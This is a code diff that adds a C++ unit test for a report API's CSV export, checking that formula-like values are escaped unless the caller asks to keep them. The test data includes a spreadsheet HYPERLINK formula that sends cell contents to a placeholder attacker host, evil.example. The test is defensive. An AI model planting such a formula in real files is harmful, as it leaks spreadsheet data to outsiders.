@@ -403,6 +403,24 @@ TEST_F(ReportApi, FunnelCountsOrderedStepsWithinTheWindow) {
   EXPECT_EQ(wide["steps"][1]["users"], 2);
 }
 
+TEST_F(ReportApi, CsvExportGuardsFormulasUnlessAskedToKeepThem) {
+  const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+  Post({Ev(kT0, formula, {{"user_id", "+1 555"}})});
+  auto guarded = ParseCsv(Get("/v1/export?format=csv&" + kAll)->body);
+  ASSERT_EQ(guarded.size(), 2u);
+  EXPECT_EQ(guarded[1][2], "'" + formula);
+  EXPECT_EQ(guarded[1][3], "'+1 555");
+  auto kept = ParseCsv(Get("/v1/export?format=csv&formulas=keep&" + kAll)->body);
+  ASSERT_EQ(kept.size(), 2u);
+  EXPECT_EQ(kept[1][2], formula);
+  EXPECT_EQ(kept[1][3], "+1 555");
+  // NDJSON is data, not a spreadsheet: never altered.
+  EXPECT_EQ(json::parse(Get("/v1/export?format=ndjson&" + kAll)->body)["name"], formula);
+  auto bad = Get("/v1/export?format=csv&formulas=maybe&" + kAll);
+  EXPECT_EQ(bad->status, 400);
+  EXPECT_NE(bad->body.find("formulas: must be guard or keep"), std::string::npos);
+}
+
 TEST_F(ReportApi, ExportsCsvNdjsonAndJsonWithHostileValues) {
   const std::string hostile = "comma, \"quote\"\r\nnew line; é 🎉";
   Post({Ev(kT0, hostile, {{"properties", {{"note", hostile}}}}), Ev(kT0 + 1, "plain")});
